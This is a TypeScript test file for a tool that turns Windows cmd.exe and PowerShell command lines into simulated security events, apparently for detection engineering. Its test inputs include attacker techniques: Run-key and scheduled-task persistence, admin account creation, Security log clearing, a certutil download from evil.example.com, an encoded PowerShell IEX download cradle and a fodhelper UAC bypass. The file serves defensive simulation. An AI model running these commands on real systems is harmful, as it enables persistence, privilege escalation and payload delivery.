import { describe, expect, it } from "vitest";
import type { ActionInput } from "@/lib/engine/actions";
import { PlanBuilder } from "./builder";
import { splitCmd, takeRedirects } from "./cmdline";
import { windowsEnv } from "./env";
import { cmdInner, powershellScript, runCmdLine, runProgram } from "./mapper";
import { runPowerShell } from "./powershell";

const env = windowsEnv("alice", "WS01", "CORP");
const procs = (actions: ActionInput[]) =>
  actions.flatMap((a) =>
    a.kind === "process.create" ? [`${a.parent}>${a.image.replace(/^.*\\/, "")}: ${a.commandLine}`] : [],
  );
const kinds = (actions: ActionInput[]) => actions.map((a) => a.kind).filter((k) => k !== "process.terminate");

function cmd(line: string) {
  const b = new PlanBuilder(env);
  runCmdLine(b, "shell", line);
  return b;
}

describe("cmd.exe line mapping", () => {
  it("splits on & && || and pipes outside quotes, keeping ^-escaped operators", () => {
    expect(
      splitCmd('echo "a & b" & whoami && hostname || ver | find "x" ^& y').map((s) => [s.joiner, s.text]),
    ).toEqual([
      ["", 'echo "a & b"'],
      ["&", "whoami"],
      ["&&", "hostname"],
      ["||", "ver"],
      ["|", 'find "x" ^& y'],
    ]);
    expect(takeRedirects("whoami /all > %TEMP%\\o.txt 2>&1")).toEqual({
      command: "whoami /all",
      redirects: [{ op: ">", target: "%TEMP%\\o.txt" }],
    });
    expect(cmdInner('/q /c "whoami & hostname"')).toBe("whoami & hostname");
  });

  it("maps reg add, nested cmd /c, redirection and built-ins in a pipe", () => {
    const b = cmd(
      'cmd /c "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\x.exe /f" & echo hi | findstr h > %TEMP%\\o.txt',
    );
    expect(procs(b.actions)).toEqual([
      'shell>cmd.exe: cmd /c "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\x.exe /f"',
      "cmd>reg.exe: reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\x.exe /f",
      'shell>cmd.exe: C:\\Windows\\system32\\cmd.exe /S /D /c" echo hi "',
      "shell>findstr.exe: findstr h",
    ]);
    expect(b.actions).toContainEqual(
      expect.objectContaining({
        kind: "registry.value.set",
        key: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        value: "U",
        data: "C:\\x.exe",
      }),
    );
    expect(b.actions).toContainEqual(
      expect.objectContaining({
        kind: "file.create",
        proc: "shell",
        path: "C:\\Users\\alice\\AppData\\Local\\Temp\\o.txt",
      }),
    );
  });

  it("maps schtasks create/run, sc create, net user/localgroup and wevtutil", () => {
    const b = cmd(
      'schtasks /create /tn "T1" /tr "C:\\p.exe" /sc onlogon /ru system & schtasks /run /tn T1 & sc create S1 binPath= "C:\\s.exe" start= auto & net user bob P@ss1 /add & net localgroup administrators bob /add & wevtutil cl Security',
    );
    expect(kinds(b.actions).filter((k) => k !== "process.create")).toEqual([
      "task.create",
      "task.run",
      "service.install",
      "account.create",
      "group.member.add",
      "log.clear",
    ]);
    expect(b.actions).toContainEqual(
      expect.objectContaining({ kind: "task.create", name: "\\T1", runAs: "@system", command: "C:\\p.exe" }),
    );
  });

  it("runs wmic process call create from WmiPrvSE and certutil downloads with DNS, connection and file", () => {
    const b = cmd(
      'wmic process call create "rundll32.exe C:\\Users\\Public\\a.dll,Start" & certutil -urlcache -split -f https://evil.example.com/a.exe %PUBLIC%\\a.exe',
    );
    expect(procs(b.actions)).toContain("@wmiprvse>rundll32.exe: rundll32.exe C:\\Users\\Public\\a.dll,Start");
    expect(b.actions).toContainEqual(
      expect.objectContaining({ kind: "image.load", image: "C:\\Users\\Public\\a.dll" }),
    );
    expect(kinds(b.actions).slice(-3)).toEqual(["dns.query", "network.connect", "file.create"]);
    expect(b.actions.at(-2)).toEqual(
      expect.objectContaining({ kind: "file.create", path: "C:\\Users\\Public\\a.exe" }),
    );
  });

  it("decodes powershell -EncodedCommand and maps the script with a 4104", () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/p.ps1')";
    let bin = "";
    for (const c of script) bin += String.fromCharCode(c.charCodeAt(0), 0);
    const b = new PlanBuilder(env);
    runProgram(b, "shell", `powershell.exe -nop -w hidden -enc ${btoa(bin)}`);
    expect(powershellScript(["-nop", "-enc", btoa(bin)])).toBe(script);
    expect(b.actions).toContainEqual(expect.objectContaining({ kind: "powershell.scriptblock", script }));
    expect(b.actions).toContainEqual(
      expect.objectContaining({ kind: "network.connect", remote: "10.0.0.5", port: 80 }),
    );
  });
});

describe("PowerShell mapping", () => {
  it("maps registry and file cmdlets, variables, Start-Process and native commands", () => {
    const b = new PlanBuilder(env);
    runPowerShell(
      b,
      "ps",
      `$k = "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command"
New-Item $k -Force
New-ItemProperty -Path $k -Name "DelegateExecute" -Value "" -Force
Set-ItemProperty -Path $k -Name "(default)" -Value "cmd.exe /c whoami" -Force
Copy-Item C:\\Windows\\System32\\cmd.exe -Destination $env:TEMP\\svc.exe
Start-Process "C:\\Windows\\System32\\fodhelper.exe"
whoami /groups | Out-File -FilePath $env:PUBLIC\\w.txt`,
      runProgram,
    );
    expect(kinds(b.actions)).toEqual([
      "powershell.scriptblock",
      "registry.key.create",
      "registry.value.set",
      "registry.value.set",
      "file.create",
      "process.create",
      "process.create",
      "file.create",
    ]);
    expect(procs(b.actions)).toEqual([
      'ps>fodhelper.exe: "C:\\Windows\\System32\\fodhelper.exe"',
      'ps>whoami.exe: "C:\\Windows\\System32\\whoami.exe" /groups',
    ]);
    expect(b.actions[4]).toEqual(
      expect.objectContaining({ path: "C:\\Users\\alice\\AppData\\Local\\Temp\\svc.exe" }),
    );
  });

  it("records what it cannot map", () => {
    const b = new PlanBuilder(env);
    runPowerShell(b, "ps", "Frobnicate.exe -x\nInvoke-WebRequest $url -OutFile a.zip", runProgram);
    expect(b.notes.filter((n) => n.unmapped).map((n) => n.unmapped)).toEqual([
      'PowerShell command "Frobnicate.exe" not understood',
      "download URL is an expression",
    ]);
  });
});
